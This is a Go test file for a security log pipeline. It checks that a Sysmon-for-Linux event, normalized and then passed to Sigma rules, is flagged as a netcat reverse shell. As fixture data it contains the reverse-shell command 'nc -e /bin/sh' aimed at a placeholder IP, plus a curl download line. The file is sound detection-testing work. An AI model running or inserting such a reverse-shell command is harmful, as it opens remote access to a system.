package normalizeprocessor

import (
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/component/componenttest"
	"go.opentelemetry.io/collector/consumer/consumertest"
	"go.opentelemetry.io/collector/pdata/plog"
	"go.opentelemetry.io/collector/processor"
	"go.opentelemetry.io/collector/processor/processortest"

	"github.com/cairnsec/cairn/internal/event"
	"github.com/cairnsec/cairn/processor/sigmaprocessor"
)

// TestInFrontOfSigma: a Sysmon for Linux process creation that arrives as a
// syslog message (the body of a record, as the syslog receiver gives it) is
// normalised by cairn_normalize and then matched by the sigma processor's
// default rules, unchanged: the netcat reverse shell raises sigma_high with
// the rule's title and author.
func TestInFrontOfSigma(t *testing.T) {
	ctx := context.Background()
	bsd := line(t, "sysmon/events.log", 0)
	bsd = strings.Replace(bsd, `<Data Name="Image">/usr/bin/curl</Data>`, `<Data Name="Image">/usr/bin/nc.traditional</Data>`, 1)
	bsd = strings.Replace(bsd, `<Data Name="CommandLine">curl -s -O http://203.0.113.7/x?a=1&amp;b=2</Data>`,
		`<Data Name="CommandLine">nc -e /bin/sh 203.0.113.5 4444</Data>`, 1)
	require.Contains(t, bsd, "nc.traditional")
	require.Contains(t, bsd, "nc -e /bin/sh")

	sink := new(consumertest.LogsSink)
	sf := sigmaprocessor.NewFactory()
	sigma, err := sf.CreateLogs(ctx, processortest.NewNopSettings(sf.Type()), sf.CreateDefaultConfig(), sink)
	require.NoError(t, err)
	nf := NewFactory()
	norm, err := nf.CreateLogs(ctx, processortest.NewNopSettings(nf.Type()), nf.CreateDefaultConfig(), sigma)
	require.NoError(t, err)
	for _, p := range []processor.Logs{sigma, norm} {
		require.NoError(t, p.Start(ctx, componenttest.NewNopHost()))
		t.Cleanup(func() { require.NoError(t, p.Shutdown(ctx)) })
	}

	ld := plog.NewLogs()
	ld.ResourceLogs().AppendEmpty().ScopeLogs().AppendEmpty().LogRecords().AppendEmpty().Body().SetStr(bsd)
	require.NoError(t, norm.ConsumeLogs(ctx, ld))

	require.Len(t, sink.AllLogs(), 1)
	out := sink.AllLogs()[0]
	res := out.ResourceLogs().At(0)
	rec := res.ScopeLogs().At(0).LogRecords().At(0)
	v := event.NewView()
	v.Reset(res.Resource(), rec)
	exe, _ := v.Str(event.Lookup("process.executable"))
	assert.Equal(t, "/usr/bin/nc.traditional", exe)
	assert.True(t, v.HasSignal(event.SignalSigmaHigh), "signals: %v", rec.Attributes().AsRaw()["cairn"])
	var labels []string
	v.SignalDetails(func(d event.SignalDetail) bool {
		labels = append(labels, d.Label)
		return true
	})
	assert.Contains(t, labels, `Sigma rule "Netcat Reverse Shell Under a Distribution Name" by Cairn`)
}
